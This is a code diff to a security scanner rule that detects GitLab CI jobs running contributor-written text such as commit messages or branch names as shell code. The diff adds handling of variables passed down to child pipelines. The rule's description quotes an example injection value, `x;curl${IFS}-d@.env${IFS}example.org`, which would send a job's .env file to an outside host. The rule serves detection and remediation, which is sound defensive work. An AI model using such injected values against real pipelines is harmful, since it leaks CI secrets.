@@ -1,9 +1,9 @@
 import { detailNote, inside } from '../rule.js';
 import { inScript, lineAtOffset } from '../script-checks.js';
 import { basename, effectiveWords, gitSubcommand, gitTextOutput, parseShell, type GitText, type ShellCommand, type ShellWord } from '../shell.js';
-import { get, text } from '../yaml/tree.js';
+import { get, isYMap, text, type YMap } from '../yaml/tree.js';
 import { ownerFixes } from './conditions.js';
-import { gitlabRule, lineOf, pipeline, pipelineScripts, variableScopes, variableValue, type Pipeline } from './pipeline.js';
+import { extendsOrder, gitlabRule, lineOf, pipeline, pipelineScripts, readPipeline, variableScopes, variableValue, type Pipeline } from './pipeline.js';
 
 /**
  * Predefined variables whose text someone without access to the project's CI/CD settings
@@ -402,7 +402,8 @@ function* injections(script: string, carriers: Map<string, Written> = new Map())
  */
 function carriers(p: Pipeline): Map<string, Written> {
   const out = new Map<string, Written>();
-  for (const { map } of variableScopes(p)) {
+  const maps = [...variableScopes(p).map((scope) => scope.map), ...triggerVariables(p)];
+  for (const map of maps) {
     for (const entry of map.pairs) {
       const { value } = variableValue(entry.value);
       if (typeof value !== 'string' || text(get(entry.value, 'expand')) === 'false') continue;
@@ -411,6 +412,27 @@ function carriers(p: Pipeline): Map<string, Written> {
     }
   }
   return out;
+}
+
+/**
+ * For the file of a child pipeline: the `variables:` that the trigger jobs starting it pass
+ * down (each job's own and those it extends, and the top-level ones of its file), which
+ * the child's jobs get, expanded in the parent (`BRANCH: $CI_COMMIT_BRANCH`). A `trigger:` a
+ * template writes is passed by each job that extends it.
+ */
+function triggerVariables(p: Pipeline): YMap[] {
+  const maps: YMap[] = [];
+  for (const trigger of p.triggers ?? []) {
+    const parent = readPipeline(trigger.text, () => {}, { gitlab: { files: trigger.files } });
+    const job = parent?.jobs.find((j) => j.name === trigger.job);
+    if (!parent || !job) continue;
+    const starters = parent.jobs.filter((j) => j.node === job.node || extendsOrder(parent, j.node).includes(job.node));
+    for (const node of [parent.root, ...starters.flatMap((j) => extendsOrder(parent, j.node))]) {
+      const map = get(node, 'variables');
+      if (isYMap(map)) maps.push(map);
+    }
+  }
+  return maps;
 }
 
 const SSH_SINK = "ssh's remote shell";
@@ -422,7 +444,7 @@ const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME, or $NAME: GitLab\'s runner sets each variable in the PowerShell script too). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too (in a child pipeline, also one the trigger job passes down: its own `variables:`, those it extends, its file\'s top-level ones), and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). So does what a git command prints of the commits, set into a variable (`MSG=$(git log -1 --pretty=%B)`, `` AUTHOR=`git show -s --format=%an` ``) or substituted straight into the code (`eval "notify $(git log -1 --format=%s)"`: the job\'s shell runs git, and eval parses its output): the message (%s, %b, %B, --oneline and the named formats), the author\'s and committer\'s names and emails (%an, %ae, %cn, %ce), the branch and tag names decorating a commit (%d, %D); not hashes, dates or %f. The name of the branch checked out (`git rev-parse --abbrev-ref HEAD`, `git branch --show-current`) counts once the job checks out a branch under a name a contributor wrote (`git checkout -B "$CI_COMMIT_REF_NAME"`): GitLab checks out the commit with HEAD detached, where git prints `HEAD`. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium, and so is the profile name of the user who started the pipeline (GITLAB_USER_NAME: free text that user chooses, a member who can run pipelines); their username (GITLAB_USER_LOGIN) takes only letters, digits and `_.-` and is not reported. The commit\'s author (CI_COMMIT_AUTHOR, `Name <email>` as git records it) is whatever the commit says. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. Nor is a branch or tag name that the conditions a job runs under fix to one the pipeline names: rules (the job\'s, or the workflow\'s) whose every entry that lets it run compares it (`if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH`, `if: $CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/`, a pattern anchored at both ends that takes only letters, digits and `._/+-`), or `only:` refs that name branches so (`only: [main]`); such a branch pipeline has no merge request text either. A template\'s script counts as fixed only when every job of the file that runs it is. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
